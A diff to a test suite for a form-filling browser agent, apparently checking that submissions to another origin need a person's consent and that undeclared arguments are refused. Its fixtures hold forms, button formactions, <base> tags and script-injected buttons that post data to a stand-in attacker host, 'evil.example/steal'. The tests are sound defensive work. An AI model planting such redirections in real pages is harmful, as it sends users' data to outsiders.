@@ -125,6 +125,55 @@ describe.each(sides)("safety, $name", ({ run }) => {
     expect(await page.evaluate("submitted")).toEqual([]);
   });
 
+  const sends = (to: string, button = "<button>Send</button>", more = "") =>
+    `<form method=post action="${to}" ${A("a.b", more)}>${input("x")}${button}${status}</form>${keepSubmits}`;
+  const away = "https://evil.example";
+  test.each([
+    ["the form", sends(`${away}/steal`)],
+    ["the button", sends("/here", `<button formaction="${away}/steal">Send</button>`)],
+    ["<base>", `<base href="${away}/">${sends("steal")}`],
+    ["a form that is only got", sends(`${away}/steal`).replace("method=post", "method=get")],
+    ["an address of great length", sends(`${away}/${"a".repeat(20_000)}`)],
+    ["a page that says it needs nobody", sends(`${away}/steal`, undefined, confirm("never"))],
+    ["a button outside of any action's form", `<div ${A("a.b")}>${sends(`${away}/`).replace(A("a.b"), "")}</div>`],
+  ])("what is sent to another origin is not sent without a person: %s", async (_, html) => {
+    const { page } = await open({ "/": html });
+    const alone = await run(page, setting({ manifest: easy }), request);
+    expect(alone.outcome).toMatchObject({ kind: "refused", stop: { code: "consent_unavailable" } });
+    expect("stop" in alone.outcome && alone.outcome.stop.message).toContain(away);
+    expect(await page.locator("input").inputValue()).toBe("");
+    const { outcome, requests } = await run(page, setting({ manifest: easy }, "yes"), request);
+    expect([outcome.kind, requests.map(({ postsTo }) => postsTo)]).toEqual(["done", [away]]);
+    expect(await page.evaluate("submitted.length")).toBe(1);
+  });
+
+  test.each([
+    ["an address of its own", sends("/here")],
+    ["none", sends("")],
+    ["a button that leads back", sends(`${away}/`, "<button formaction=/here>Send</button>")],
+    ["a dialog's", sends(`${away}/`).replace("method=post", "method=dialog")],
+    ["a script", sends("javascript:void 0")],
+  ])("what stays with the page's origin needs nobody: %s", async (_, html) => {
+    const { page } = await open({ "/": html });
+    expect((await run(page, setting({ manifest: easy }), request)).outcome.kind).toBe("done");
+  });
+
+  test("AAF-DOM-06: a form for another origin that is to be reviewed is only filled", async () => {
+    const { page } = await open({ "/": sends(`${away}/`, undefined, confirm("review")) });
+    const { outcome, requests } = await run(page, setting({ manifest: easy }, "yes"), request);
+    expect([outcome.kind, requests]).toEqual(["filled", []]);
+    expect(await page.evaluate("submitted")).toEqual([]);
+  });
+
+  test("a button of a later step that sends elsewhere is asked about again, with where to", async () => {
+    const html = `<form ${A("a.b")}><div id=box>${input("x")}<button type=button id=n ${A("a.b.next")}>Next</button></div>${status}</form>
+      ${keepSubmits}<script>n.onclick = () => { box.innerHTML = '<button formaction="https://evil.example/">Send</button>'; };</script>`;
+    const { page } = await open({ "/": html });
+    const { outcome, requests } = await run(page, setting({ manifest: required }, "yes"), request);
+    expect(requests.map(({ postsTo }) => postsTo)).toEqual([undefined, away]);
+    expect(outcome.kind).toBe("done");
+  });
+
   test("the policy becomes stricter while it is filled: stopped", async () => {
     const { page } = await open({ "/": form(input("x", `oninput="f.dataset.agentDanger = 'high'"`)) });
     const { outcome } = await run(page, setting({ manifest: easy }, "yes"), request);
@@ -171,15 +220,27 @@ describe.each(sides)("safety, $name", ({ run }) => {
     ["a name that every object has", { action: "constructor" }, "action_not_in_manifest"],
     ["an argument of the wrong type", { action: "a.b", args: { x: 12 } }, "invalid_arguments"],
     ["an argument that is missing", { action: "a.b", args: {} }, "invalid_arguments"],
-    ["an argument that nobody knows", { action: "a.b", args: { x: "1", __proto__x: "1" } }, "invalid_arguments"],
+    [
+      "an argument that a closed schema does not name",
+      { action: "e.f", args: { x: "1", y: "1" } },
+      "invalid_arguments",
+    ],
+    ["an object for what the schema does not name", { action: "a.b", args: { x: "1", y: {} } }, "invalid_arguments"],
+    ["nothing for what the schema does not name", { action: "a.b", args: { x: "1", y: null } }, "invalid_arguments"],
+    ["lists in lists for it", { action: "a.b", args: { x: "1", y: [["1"]] } }, "invalid_arguments"],
     ["arguments that are no object", { action: "a.b", args: ["x"] as never }, "invalid_arguments"],
   ])("AAF-MAN-04: refused, with the page untouched: %s", async (_, asked, code) => {
-    const html = `${form(input("x"))}<form ${A("c.d")}><button>Other</button></form>`;
+    const html = `${form(input("x") + input("y"))}<form ${A("c.d")}><button>Other</button></form>
+      <form ${A("e.f")}>${input("x") + input("y")}<button>Closed</button></form>`;
     const { page } = await open({ "/": html });
     await page.evaluate(
       "for (const type of ['focusin', 'input', 'click']) addEventListener(type, () => { window.touched = type; }, true)",
     );
-    const manifest = manifestOf({ "a.b": actionOf({ x: text }, { required: ["x"] }) });
+    const closed = { type: "object", properties: { x: text }, additionalProperties: false };
+    const manifest = manifestOf({
+      "a.b": actionOf({ x: text }, { required: ["x"] }),
+      "e.f": actionOf({}, { inputSchema: closed }),
+    });
     const { outcome, log } = await run(page, setting({ manifest }, "yes"), asked);
     expect(outcome).toMatchObject({ kind: "refused", stop: { code } });
     expect(await page.evaluate("window.touched")).toBeUndefined();
